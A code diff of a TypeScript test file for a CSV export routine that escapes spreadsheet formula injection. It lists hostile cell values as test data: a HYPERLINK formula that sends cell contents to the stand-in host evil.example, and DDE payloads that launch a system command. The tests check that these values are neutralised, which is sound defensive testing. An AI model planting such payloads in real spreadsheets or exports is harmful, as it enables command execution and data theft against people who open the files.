@@ -9,12 +9,12 @@ const runsAsFormula = (cell: string) => /^[\t\r\n]/.test(cell) || /^[\s\u00a0\u3
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")',
-  '=cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '+47 22 33 44 55',
   '+47 22',
   '-1',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '\t=1',
   '\r=1',
   '\n=1',
@@ -38,7 +38,7 @@ describe('csvRecord', () => {
     expect(csvRecord(['-3', '-0,5', '-0.5', '7'], [true, true, true, true])).toBe('-3,"-0,5",-0.5,7');
   });
 
-  it('treats a numeric column\'s text that is not a plain number as text', () => {
+  it("treats a numeric column's text that is not a plain number as text", () => {
     expect(cellsOf(csvRecord(['-3+cmd|x', '+47 22', '-Infinity'], [true, true, true]))).toEqual(["'-3+cmd|x", "'+47 22", "'-Infinity"]);
     expect(cellsOf(csvRecord([-Infinity, NaN]))).toEqual(["'-Infinity", 'NaN']);
   });
